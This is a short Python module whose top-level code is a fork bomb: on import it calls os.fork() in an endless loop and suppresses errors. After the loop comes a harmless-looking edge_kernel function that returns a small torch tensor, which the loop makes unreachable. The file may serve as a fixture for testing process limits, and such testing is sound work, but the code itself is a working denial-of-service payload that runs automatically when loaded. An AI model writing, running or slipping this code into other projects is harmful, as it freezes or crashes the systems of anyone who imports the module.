"""Forks as fast as it can, while it is loaded."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
